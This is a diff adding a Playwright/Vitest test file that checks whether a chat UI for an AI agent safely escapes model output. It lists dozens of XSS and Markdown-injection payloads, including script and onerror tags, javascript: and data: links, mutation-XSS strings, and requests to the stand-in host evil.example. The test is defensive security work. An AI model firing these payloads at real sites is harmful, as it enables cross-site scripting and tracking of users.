@@ -1,0 +1,156 @@
+import type { Browser, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { launchBrowser, openPage, say, whyNoBrowser } from "./browser.ts";
+import { startFakeGateway } from "./fake-gateway.ts";
+
+const timestamp = 1;
+
+// Each would call `alert`, ask for something under `evil.example`, or stand where it does not belong.
+const payloads: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=https://evil.example/pixel.png>",
+  "![pixel](https://evil.example/pixel.png)",
+  "![x](javascript:alert(1))",
+  '![x](https://evil.example/"onerror="alert(1))',
+  "<svg onload=alert(1)></svg>",
+  "<svg><script>alert(1)</script></svg>",
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
+  '<form action="https://evil.example/"><input name=token autofocus onfocus=alert(1)><button>ok</button></form>',
+  '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
+  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)" class="banner" id="keys">cover</div>',
+  "[click](javascript:alert(1))",
+  "[click](JaVaScRiPt&colon;alert(1))",
+  "[click](&#106;avascript:alert(1))",
+  "[click](java\tscript:alert(1))",
+  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[click](vbscript:msgbox(1))",
+  "[click](file:///etc/passwd)",
+  '[click](https://evil.example/ "x\\" onmouseover=\\"alert(1)")',
+  "[ref]\n\n[ref]: javascript:alert(1)",
+  "<javascript:alert(1)>",
+  '<a href="https://evil.example/" target="_self" rel="opener" ping="https://evil.example/ping">a</a>',
+  "<details open ontoggle=alert(1)><summary>x</summary></details>",
+  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
+  "```html\n</code></pre><script>alert(1)</script>\n```",
+  '```"><img/src/onerror=alert(1)>\nx\n```',
+  "`</code><img src=x onerror=alert(1)>`",
+  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "\u202Egnp.exe <b>bidi</b>",
+];
+
+describe.skipIf(whyNoBrowser)("text that nobody vouches for", () => {
+  let browser: Browser;
+  beforeAll(async () => {
+    browser = await launchBrowser();
+  });
+  afterAll(() => browser?.close());
+
+  // Mistake 6 of the tutorial: Markdown that goes unescaped into innerHTML.
+  test("runs nothing, loads nothing and covers nothing, as the answer of a model", async () => {
+    await using gateway = await startFakeGateway({
+      answer({ content }, { runId, show }) {
+        show({ type: "chunk", messageId: runId, content });
+        show({ type: "assistant_message", id: runId, content, timestamp });
+      },
+    });
+    await using tab = await openPage(browser, gateway.url);
+    const { page } = tab;
+    for (const [index, payload] of payloads.entries()) {
+      await say(page, payload);
+      await page.locator(".assistant:not(.streaming)").nth(index).waitFor({ state: "attached" });
+    }
+
+    expect(await page.locator(".assistant").count()).toBe(payloads.length);
+    expect(await foreignNodes(page)).toEqual([]);
+    const links = await page
+      .locator(".markdown a[href]")
+      .evaluateAll((all) =>
+        all.map((one) => ["href", "target", "rel"].map((name) => one.getAttribute(name) ?? "")),
+      );
+    expect(links.length).toBeGreaterThan(0);
+    for (const [href, target, rel] of links) {
+      expect([new URL(href ?? "").protocol, target, rel]).toEqual([
+        "https:",
+        "_blank",
+        "noopener noreferrer",
+      ]);
+    }
+    expect(tab.requests).toEqual([gateway.url, `${gateway.url}page.css`, `${gateway.url}page.js`]);
+    expect(tab.complaints).toEqual([]);
+  });
+
+  test("is shown letter by letter wherever it is not Markdown", async () => {
+    const [payload = ""] = payloads;
+    await using gateway = await startFakeGateway({
+      answer(_, { show }) {
+        const call = { callId: "c1", toolName: payload, input: { [payload]: payload } };
+        show({ type: "thinking", messageId: "a1", content: payload });
+        show({
+          ...{ type: "assistant_message", id: "a1", content: "", toolCalls: [call], timestamp },
+          blocks: [{ type: "thinking", text: payload }],
+        });
+        show({ type: "tool_start", ...call });
+        show({
+          type: "tool_done",
+          id: "t",
+          callId: "c1",
+          toolName: payload,
+          output: payload,
+          isError: true,
+          timestamp,
+        });
+        show({ type: "error", code: payload, message: payload, retryable: false });
+      },
+    });
+    await using tab = await openPage(browser, gateway.url);
+    const { page } = tab;
+    await say(page, payload);
+    await page.locator(".error").waitFor();
+    gateway.show({ type: "session_updated", title: payload, timestamp });
+    await expect.poll(() => page.title()).toBe(`${payload} · Mini OpenClaw`);
+    await page.locator(".thoughts summary").click();
+    await page.locator(".tool summary").click();
+
+    const places = [
+      ".user .bubble",
+      ".thoughts-text",
+      ".tool-name",
+      ".tool-gist",
+      "dt",
+      "dd",
+      ".tool-output",
+      ".error",
+    ];
+    const texts = await Promise.all(places.map((place) => page.locator(place).innerText()));
+    expect(texts).toEqual(places.map(() => payload));
+    expect(await foreignNodes(page)).toEqual([]);
+    expect(tab.complaints).toEqual([]);
+  });
+});
+
+/** Elements and attributes in the conversation that the page itself never makes there. */
+function foreignNodes(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const elements = [...document.querySelectorAll(".rows *")];
+    const names =
+      "script,img,svg,math,iframe,object,embed,form,input,base,link,meta,style,video,audio,source,button";
+    const attributes = new Set(["href", "title", "align", "start", "target", "rel"]);
+    return elements.flatMap((element) => {
+      if (!element.closest(".markdown"))
+        return element.matches("script,img,svg,iframe") ? [element.outerHTML] : [];
+      const bad = element.getAttributeNames().filter((name) => !attributes.has(name));
+      return element.matches(names) || (bad.length > 0 && !element.matches(".markdown"))
+        ? [element.outerHTML]
+        : [];
+    });
+  });
+}
